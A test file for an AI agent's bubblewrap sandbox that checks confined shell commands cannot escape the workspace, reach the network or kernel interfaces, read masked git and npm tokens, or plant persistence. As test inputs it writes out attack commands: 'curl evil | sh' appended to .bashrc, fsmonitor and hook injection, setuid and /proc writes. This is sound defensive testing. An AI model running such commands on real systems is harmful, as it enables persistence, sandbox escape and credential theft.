import { execFileSync } from "node:child_process";
import { appendFileSync, chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { createServer as createNetServer } from "node:net";
import { dirname, join } from "node:path";
import { describe, expect, it } from "vitest";
import { BUNDLED_CONFIG_DIR } from "../src/config/load-config.js";
import { programPaths, sandboxPathsFor } from "../src/runtime/create-runtime.js";
import { MASKED } from "../src/tools/sandbox-masks.js";
import { bubblewrapShell, probeBubblewrap } from "../src/tools/shell-sandbox.js";
import { createTestRuntime, makeTempDir } from "./helpers/test-runtime.js";
import { runConfined } from "./helpers/test-tools.js";
import { REPO_ROOT } from "./helpers/cli-child.js";

// .ci/run installs bubblewrap; on a machine without it this test says so instead of passing quietly.
describe("shell commands confined by bubblewrap", () => {
  it("is available here", () => {
    expect(probeBubblewrap().reason).toBe("bubblewrap works");
  });

  it("write inside the workspace and nowhere else, and are killed on timeout", async () => {
    const runtime = createTestRuntime({ runtime: { timeouts: { step_ms: 1_500 }, retry: { max_step_retries: 0 } } });
    try {
      expect(runtime.sandbox.kind).toBe("bwrap");
      const outside = makeTempDir("ducklm-outside-");
      const inside = await runtime.loop.submit({ text: "run `echo kept > inside.txt`", auto_approve: ["unknown"] }).done;
      expect(inside.state).toBe("completed");
      expect(readFileSync(join(runtime.workspace, "inside.txt"), "utf8")).toBe("kept\n");

      const escape = await runtime.loop.submit({ text: `run \`echo escaped > ${outside}/escape.txt\``, auto_approve: ["unknown"] }).done;
      expect(escape.state).toBe("failed");
      expect(escape.error?.message).toMatch(/Read-only file system|exited with/);
      expect(existsSync(join(outside, "escape.txt"))).toBe(false);

      const started = Date.now();
      const slow = await runtime.loop.submit({ text: "run `sleep 30`" }).done;
      expect(slow.state).toBe("failed");
      expect(slow.error?.code).toBe("DUCK_ERR_TOOL_TIMEOUT");
      expect(Date.now() - started).toBeLessThan(10_000);
    } finally {
      await runtime.dispose();
    }
  });
});

const runIn = runConfined;

describe("a folder commands may read but not change (the bundled config of a checkout)", () => {
  it("is there to read and list inside the workspace, and cannot be written, emptied, renamed or replaced", async () => {
    const workspace = makeTempDir("ducklm-ro-ws-");
    const defaults = join(workspace, "pkg", "config");
    mkdirSync(defaults, { recursive: true });
    writeFileSync(join(defaults, "permissions.json"), '{"categories":{}}\n');
    const sandbox = bubblewrapShell({ hiddenPaths: [], readOnlyPaths: [defaults] });
    expect(await runIn(sandbox, "cat pkg/config/permissions.json && ls pkg/config", workspace, false)).toBe('{"categories":{}}\npermissions.json\n');
    for (const attack of ["echo '{}' > pkg/config/permissions.json", "rm -rf pkg/config", "mv pkg/config pkg/old && mkdir pkg/config", "mv pkg elsewhere", "touch pkg/config/extra.json"]) {
      await runIn(sandbox, attack, workspace, false);
      expect(readFileSync(join(defaults, "permissions.json"), "utf8"), attack).toBe('{"categories":{}}\n');
      expect(readdirSync(defaults), attack).toEqual(["permissions.json"]);
    }
    // What the runtime gives the sandbox: the bundled config read-only, the user's own folders hidden;
    // a config folder that is the bundled one (`--config config` in a checkout) is the user's, hidden.
    const home = makeTempDir("ducklm-ro-home-");
    const own = makeTempDir("ducklm-ro-config-");
    const paths = sandboxPathsFor(home, own);
    expect(paths.readOnlyPaths).toEqual(programPaths());
    expect(paths.readOnlyPaths).toContain(BUNDLED_CONFIG_DIR);
    expect(paths.hiddenPaths).toEqual(expect.arrayContaining([home, own]));
    expect(paths.hiddenPaths).not.toContain(BUNDLED_CONFIG_DIR);
    expect(sandboxPathsFor(home, BUNDLED_CONFIG_DIR)).toMatchObject({ readOnlyPaths: programPaths().filter((path) => path !== BUNDLED_CONFIG_DIR), hiddenPaths: expect.arrayContaining([BUNDLED_CONFIG_DIR]) });
    // The rest of the workspace stays writable.
    await runIn(sandbox, "echo kept > pkg/notes.txt", workspace, false);
    expect(readFileSync(join(workspace, "pkg", "notes.txt"), "utf8")).toBe("kept\n");
  });
});

describe("the network of a confined command", () => {
  it("is none at all, unless given; given, it goes through the proxy, which decides where it may go", async () => {
    const site = createServer((_request, response) => response.end("hello from the site"));
    await new Promise<void>((resolve) => site.listen(0, "127.0.0.1", () => resolve()));
    const port = (site.address() as { port: number }).port;
    const workspace = makeTempDir("ducklm-net-ws-");
    const fetchSite = `node -e "require('http').get({ host: '127.0.0.1', port: 3128, path: 'http://127.0.0.1:${port}/' }, (r) => r.on('data', (d) => console.log(r.statusCode, String(d)))).on('error', (e) => console.log('ERR', e.code))"`;
    // Here the test stands in for the internet: loopback plays a public site.
    const open = bubblewrapShell({ hiddenPaths: [], allowAddress: () => true });
    const strict = bubblewrapShell({ hiddenPaths: [] });
    // permissions.json hosts.deny: refused at the proxy, before any connection.
    const denying = bubblewrapShell({ hiddenPaths: [], allowAddress: () => true, deniedHost: (host) => host === "127.0.0.1" });
    let connections = 0;
    site.on("connection", () => (connections += 1));
    try {
      expect(await runIn(denying, fetchSite, workspace, true)).toMatch(/403 127\.0\.0\.1 is in permissions\.json hosts\.deny/);
      expect(connections).toBe(0);
      expect(await runIn(open, fetchSite, workspace, false)).toMatch(/ERR (ECONNREFUSED|ENETUNREACH)/);
      expect(await runIn(open, fetchSite, workspace, true)).toContain("200 hello from the site");
      expect(await runIn(open, "echo $HTTPS_PROXY", workspace, true)).toContain("http://127.0.0.1:3128");
      // The real rule: this machine is never reachable.
      expect(await runIn(strict, fetchSite, workspace, true)).toMatch(/403 127\.0\.0\.1 is this machine/);
    } finally {
      await open.dispose();
      await strict.dispose();
      await denying.dispose();
      site.close();
    }
  });
});

describe("what a confined command keeps of the kernel's interfaces", () => {
  it("cannot write /proc's knobs, reach a Unix socket by any socket call, set a setuid bit, use io_uring or the keyrings, or make a user namespace", async () => {
    const workspace = makeTempDir("ducklm-kernel-ws-");
    const sandbox = bubblewrapShell({ hiddenPaths: [] });
    // Outside /tmp, which every command gets a private one of: this is where a real service's socket would be.
    const socketFolder = mkdtempSync("/var/tmp/ducklm-kernel-sock-");
    const streamPath = join(socketFolder, "stream.sock");
    let connections = 0;
    const server = createNetServer(() => (connections += 1));
    await new Promise<void>((resolve) => server.listen(streamPath, () => resolve()));
    const python = (code: string) => `python3 -c "${code.replace(/"/g, '\\"')}" 2>&1 | tail -1`;
    try {
      const printed = await runIn(
        sandbox,
        [
          "echo h > /proc/sysrq-trigger && echo WROTE-SYSRQ",
          "echo 1 > /proc/sys/kernel/sysrq && echo WROTE-SYSCTL",
          `node -e "require('net').connect('${streamPath}').on('connect', () => console.log('CONNECTED')).on('error', (e) => console.log('socket', e.code))"`,
          // An unconnected datagram pair could still connect or send to a socket file.
          python("import socket; a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); print('DGRAM-PAIR')"),
          python("import socket; a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET); print('SEQPACKET-PAIR')"),
          python("import ctypes; libc = ctypes.CDLL(None, use_errno=True); print('io_uring', libc.syscall(425, 4, ctypes.create_string_buffer(128)), ctypes.get_errno())"),
          python("import ctypes; libc = ctypes.CDLL(None, use_errno=True); print('keyctl', libc.syscall(250, 0, -3, 0), ctypes.get_errno())"),
          "unshare -U true && echo NESTED-NAMESPACE",
          "cp /bin/true ./setuid-copy && chmod 4755 ./setuid-copy && echo SETUID-SET",
          "mkdir shared && chmod 2777 shared && echo SETGID-SET",
          python("import os; fd = os.open('made-setuid', os.O_CREAT | os.O_WRONLY, 0o4755); print('CREATED-SETUID')"),
          python("import socket; a, b = socket.socketpair(); a.send(b'pair'); print(b.recv(4).decode())"),
          // Only the internet families and netlink are left: packet, vsock and the kernel's crypto sockets are not.
          python(
            "import socket\ndef tried(family, kind):\n  try:\n    socket.socket(family, kind).close(); return 'open'\n  except OSError as e: return e.errno\nprint('families', tried(17, 3), tried(40, 1), tried(38, 5), tried(2, 1), tried(10, 2))",
          ),
          "true",
        ].join("; "),
        workspace,
        false,
      );
      expect(printed).not.toMatch(/WROTE-|CONNECTED|NESTED-NAMESPACE|DGRAM-PAIR|SEQPACKET-PAIR|SETUID-SET|SETGID-SET|CREATED-SETUID/);
      expect(printed).toContain("socket EPERM");
      expect(printed).toContain("io_uring -1 1");
      expect(printed).toContain("keyctl -1 1");
      for (const name of ["setuid-copy", "shared", "made-setuid"]) {
        const mode = statSync(join(workspace, name), { throwIfNoEntry: false })?.mode ?? 0;
        expect(mode & 0o6000, name).toBe(0);
      }
      // What programs use for pipes still works.
      expect(printed).toContain("pair");
      expect(printed).toContain("families 1 1 1 open open");
      expect(connections).toBe(0);
    } finally {
      server.close();
      await sandbox.dispose();
      rmSync(socketFolder, { recursive: true, force: true });
    }
  });
});

describe("a repository's credentials", () => {
  it("are not shown unmasked past the bounds on what is masked, however many repositories hold them", async () => {
    const workspace = makeTempDir("ducklm-many-creds-ws-");
    // More repositories than are masked one by one, each with a token in its remote's URL.
    const count = 80;
    for (let index = 0; index < count; index += 1) {
      mkdirSync(join(workspace, `repo${index}`, ".git"), { recursive: true });
      writeFileSync(join(workspace, `repo${index}`, ".git", "HEAD"), "ref: refs/heads/main\n");
      writeFileSync(join(workspace, `repo${index}`, ".git", "config"), `[remote "origin"]\n\turl = https://bot:ghp_manyReposToken${index}x@github.com/o/r.git\n`);
    }
    const sandbox = bubblewrapShell({ hiddenPaths: [] });
    try {
      const printed = await runIn(sandbox, "cat repo*/.git/config 2>&1; true", workspace, false);
      expect(printed).not.toContain("ghp_manyReposToken");
      expect(readFileSync(join(workspace, "repo79", ".git", "config"), "utf8")).toContain("ghp_manyReposToken79x");
    } finally {
      await sandbox.dispose();
    }
  }, 60_000);

  it.runIf(process.getuid?.() === 0)("in a toolchain config only root may read, in a visible home folder, are not shown to a command of root's", async () => {
    const home = makeTempDir("ducklm-root-toolchain-home-");
    const etc = join(home, ".nvm", "versions", "node", "v99.0.0", "etc");
    mkdirSync(etc, { recursive: true });
    writeFileSync(join(etc, "npmrc"), "//registry.npmjs.org/:_authToken=npm_rootOnlyToken77\n", { mode: 0o600 });
    const workspace = makeTempDir("ducklm-root-toolchain-ws-");
    const sandbox = bubblewrapShell({ hiddenPaths: [], home, homeVisible: [join(home, ".nvm")] });
    try {
      const printed = await runIn(sandbox, `cat ${join(etc, "npmrc")} 2>&1; true`, workspace, false);
      expect(printed).not.toContain("npm_rootOnlyToken77");
      expect(readFileSync(join(etc, "npmrc"), "utf8")).toContain("npm_rootOnlyToken77");
    } finally {
      await sandbox.dispose();
    }
  }, 60_000);

  it("are masked in what a command reads of any config git reads for it, however it reads it, and the files themselves are left alone", async () => {
    const workspace = makeTempDir("ducklm-creds-ws-");
    execFileSync("git", ["init", "-q", workspace]);
    execFileSync("git", ["-C", workspace, "remote", "add", "origin", "https://bot:ghp_repoTokenValue42@github.com/o/r.git"]);
    execFileSync("git", ["-C", workspace, "config", "http.https://github.com/.extraheader", "AUTHORIZATION: basic cmVwb1NlY3JldA=="]);
    const configPath = join(workspace, ".git", "config");
    // What git itself accepts too: a section and its key on one line, a value continued over lines, an inline helper, a token in a query.
    appendFileSync(configPath, '[http "https://gitlab.example/"] extraheader = PRIVATE-TOKEN: glpat-oneLineSecret\n[hub]\n\toauthtoken = hubOauthSecret77\n[credential]\n\thelper = "!f() { echo password=helperSecret88; }; f"\n[remote "mirror"]\n\turl = https://git.example/r.git?private_token=querySecret99\n');
    // A worktree's config lies in its main repository, outside the workspace (and outside the
    // temporary folders, which every command gets private ones of).
    mkdirSync(join(REPO_ROOT, "test", ".tmp"), { recursive: true });
    const main = mkdtempSync(join(REPO_ROOT, "test", ".tmp", "creds-main-"));
    // Readable by others: a folder only root may enter is hidden from commands when DuckLM runs as root.
    chmodSync(main, 0o755);
    execFileSync("git", ["init", "-q", main]);
    execFileSync("git", ["-C", main, "commit", "-q", "--allow-empty", "-m", "x"], { env: { ...process.env, GIT_AUTHOR_NAME: "t", GIT_AUTHOR_EMAIL: "t@x", GIT_COMMITTER_NAME: "t", GIT_COMMITTER_EMAIL: "t@x" } });
    execFileSync("git", ["-C", main, "config", "http.extraheader", "AUTHORIZATION: bearer worktreeSecret55"]);
    const tree = join(makeTempDir("ducklm-creds-tree-"), "wt");
    execFileSync("git", ["-C", main, "worktree", "add", "-q", tree]);
    const originals = [readFileSync(configPath, "utf8"), readFileSync(join(main, ".git", "config"), "utf8")];
    const sandbox = bubblewrapShell({ hiddenPaths: [] });
    try {
      const secrets = ["ghp_repoTokenValue42", "cmVwb1NlY3JldA==", "glpat-oneLineSecret", "hubOauthSecret77", "helperSecret88", "querySecret99", "worktreeSecret55"];
      const printed = await runIn(sandbox, "git config -l; git remote -v; git remote get-url origin; cat .git/config; grep -r extraheader .git/config", workspace, false);
      for (const secret of secrets) expect(printed, secret).not.toContain(secret);
      expect(printed).toContain("github.com/o/r.git");
      expect(printed).toContain(MASKED);
      const inTree = await runIn(sandbox, "git config -l; cat \"$(git rev-parse --git-common-dir)/config\"", tree, false);
      expect(inTree).not.toContain("worktreeSecret55");
      expect(inTree).toContain(MASKED);
      expect([readFileSync(configPath, "utf8"), readFileSync(join(main, ".git", "config"), "utf8")]).toEqual(originals);
    } finally {
      await sandbox.dispose();
      rmSync(main, { recursive: true, force: true });
    }
  });
});

describe("a workspace's submodules", () => {
  it("stay read-only however many folders a task makes, and one not checked out cannot be planted", async () => {
    const workspace = makeTempDir("ducklm-submodules-ws-");
    const git = (...args: string[]) => execFileSync("git", ["-C", workspace, ...args], { encoding: "utf8", env: { ...process.env, GIT_AUTHOR_NAME: "t", GIT_AUTHOR_EMAIL: "t@x", GIT_COMMITTER_NAME: "t", GIT_COMMITTER_EMAIL: "t@x" } }).trim();
    git("init", "-q");
    mkdirSync(join(workspace, "libs", "deep", "er", "and", "deeper", "sub"), { recursive: true });
    const sub = join(workspace, "libs", "deep", "er", "and", "deeper", "sub");
    execFileSync("git", ["init", "-q", sub]);
    execFileSync("git", ["-C", sub, "commit", "-q", "--allow-empty", "-m", "x"], { env: { ...process.env, GIT_AUTHOR_NAME: "t", GIT_AUTHOR_EMAIL: "t@x", GIT_COMMITTER_NAME: "t", GIT_COMMITTER_EMAIL: "t@x" } });
    const head = execFileSync("git", ["-C", sub, "rev-parse", "HEAD"], { encoding: "utf8" }).trim();
    git("update-index", "--add", "--cacheinfo", `160000,${head},libs/deep/er/and/deeper/sub`);
    // And one the index names that is not checked out: its folder is empty.
    mkdirSync(join(workspace, "vendor", "empty"), { recursive: true });
    git("update-index", "--add", "--cacheinfo", `160000,${head},vendor/empty`);
    const configBefore = readFileSync(join(sub, ".git", "config"), "utf8");
    const sandbox = bubblewrapShell({ hiddenPaths: [] });
    try {
      // Enough folders to exhaust any bounded search for repositories.
      await runIn(sandbox, "seq 1 4100 | sed 's/^/pad/' | xargs mkdir", workspace, false);
      const printed = await runIn(sandbox, [
        "printf '[core]\\n\\tfsmonitor = touch PLANTED\\n' >> libs/deep/er/and/deeper/sub/.git/config",
        "mkdir -p vendor/empty/.git/hooks",
        "printf 'gitdir: ../../evil\\n' > vendor/empty/.git",
        "true",
      ].join("; "), workspace, false);
      expect(printed).toMatch(/Read-only file system/);
      expect(readFileSync(join(sub, ".git", "config"), "utf8")).toBe(configBefore);
      expect(readdirSync(join(workspace, "vendor", "empty"))).toEqual([]);
    } finally {
      await sandbox.dispose();
    }
  }, 120_000);
});

describe("DuckLM's own look at the workspace's repository", () => {
  it("never runs what the repository's config names, though a task can write a file that config includes", async () => {
    const workspace = makeTempDir("ducklm-fsmonitor-ws-");
    const marker = join(makeTempDir("ducklm-fsmonitor-marker-"), "ran-outside");
    execFileSync("git", ["init", "-q", workspace]);
    writeFileSync(join(workspace, "project.gitconfig"), "");
    execFileSync("git", ["-C", workspace, "config", "include.path", "../project.gitconfig"]);
    const sandbox = bubblewrapShell({ hiddenPaths: [] });
    try {
      await runIn(sandbox, `printf '[core]\\n\\tfsmonitor = "touch ${marker}; false"\\n' >> project.gitconfig && git add project.gitconfig`, workspace, false);
      // The next commands make DuckLM look at the index again: the planted fsmonitor must not run.
      await runIn(sandbox, "echo second", workspace, false);
      await runIn(sandbox, "git add -A 2>/dev/null; echo third", workspace, false);
      expect(existsSync(marker)).toBe(false);
    } finally {
      await sandbox.dispose();
    }
  });
});

describe("what the user's tools run later, named by the repository or kept in a home", () => {
  it("a hooks folder and an included config the repository names but that are missing cannot be made by a task", async () => {
    const workspace = makeTempDir("ducklm-missing-hooks-ws-");
    execFileSync("git", ["init", "-q", workspace]);
    execFileSync("git", ["-C", workspace, "config", "core.hooksPath", "tools/githooks"]);
    execFileSync("git", ["-C", workspace, "config", "include.path", "../team.gitconfig"]);
    const sandbox = bubblewrapShell({ hiddenPaths: [] });
    try {
      const printed = await runIn(
        sandbox,
        "mkdir -p tools/githooks 2>&1; echo 'id > /tmp/hooked' > tools/githooks/pre-commit 2>&1; printf '[core]\\n\\thooksPath = elsewhere\\n' > team.gitconfig 2>&1; echo done",
        workspace,
        false,
      );
      expect(printed).toContain("done");
      expect(existsSync(join(workspace, "tools", "githooks", "pre-commit"))).toBe(false);
      expect(readFileSync(join(workspace, ".git", "config"), "utf8")).toContain("tools/githooks");
      // No stand-in is left behind: the user's git finds neither, as before.
      expect(existsSync(join(workspace, "tools", "githooks"))).toBe(false);
      expect(existsSync(join(workspace, "team.gitconfig"))).toBe(false);
    } finally {
      await sandbox.dispose();
    }
  });

  it("a home given as the workspace keeps everything that runs later read-only, and lets its folders be written", async () => {
    const home = makeTempDir("ducklm-home-ws-");
    writeFileSync(join(home, ".bashrc"), "# the user's own\n");
    mkdirSync(join(home, ".local", "lib", "python3.11", "site-packages"), { recursive: true });
    mkdirSync(join(home, ".config"));
    mkdirSync(join(home, "project"));
    mkdirSync(join(home, "bin"));
    const sandbox = bubblewrapShell({ hiddenPaths: [], home });
    // What a task would plant to run later, outside any sandbox: startup files, an interpreter's
    // .pth, ssh's config and keys (the folder missing), an editor's rc, a desktop autostart entry.
    const planted = [".profile", ".config/fish/config.fish", ".local/bin/git", ".local/lib/python3.11/site-packages/evil.pth", ".ssh/config", ".ssh/authorized_keys", ".vimrc", ".config/autostart/evil.desktop", ".aws/credentials", "bin/ls"];
    try {
      const printed = await runIn(
        sandbox,
        [
          "echo 'curl evil | sh' >> .bashrc",
          ...planted.map((path) => `mkdir -p ${dirname(path)}; echo 'import os; os.system(1)' > ${path}`),
          "mv .local .local-old && mkdir .local",
          "echo x > project/notes.txt && echo wrote-notes",
          "mkdir -p project/src && echo y > project/src/a.txt && echo wrote-deeper",
        ].map((step) => `(${step}) 2>&1`).join("; "),
        home,
        false,
      );
      expect(printed).toContain("wrote-notes");
      expect(printed).toContain("wrote-deeper");
      expect(readFileSync(join(home, ".bashrc"), "utf8")).toBe("# the user's own\n");
      for (const made of planted) expect(existsSync(join(home, made)), made).toBe(false);
      expect(existsSync(join(home, ".local-old"))).toBe(false);
      expect(readdirSync(join(home, ".local", "lib", "python3.11", "site-packages"))).toEqual([]);
      expect(readFileSync(join(home, "project", "notes.txt"), "utf8")).toBe("x\n");
      expect(readdirSync(home).sort()).toEqual([".bashrc", ".config", ".local", "bin", "project"]);
    } finally {
      await sandbox.dispose();
    }
  });

  it("a toolchain folder of the home given to commands shows its registry tokens masked", async () => {
    // Outside the temporary folders, which every command gets private ones of.
    mkdirSync(join(REPO_ROOT, "test", ".tmp"), { recursive: true });
    const home = mkdtempSync(join(REPO_ROOT, "test", ".tmp", "toolchain-home-"));
    chmodSync(home, 0o755);
    const npmrc = join(home, ".nvm", "versions", "node", "v20.0.0", "etc", "npmrc");
    mkdirSync(dirname(npmrc), { recursive: true });
    const original = "//registry.npmjs.org/:_authToken=npm_toolchainSecret31\nsave-exact=true\n";
    writeFileSync(npmrc, original, { mode: 0o644 });
    const workspace = makeTempDir("ducklm-toolchain-ws-");
    const sandbox = bubblewrapShell({ hiddenPaths: [], home, homeVisible: [join(home, ".nvm")] });
    try {
      const printed = await runIn(sandbox, `cat ${npmrc}`, workspace, false);
      expect(printed).toContain("save-exact=true");
      expect(printed).not.toContain("npm_toolchainSecret31");
      expect(readFileSync(npmrc, "utf8")).toBe(original);
    } finally {
      await sandbox.dispose();
      rmSync(home, { recursive: true, force: true });
    }
  });
});
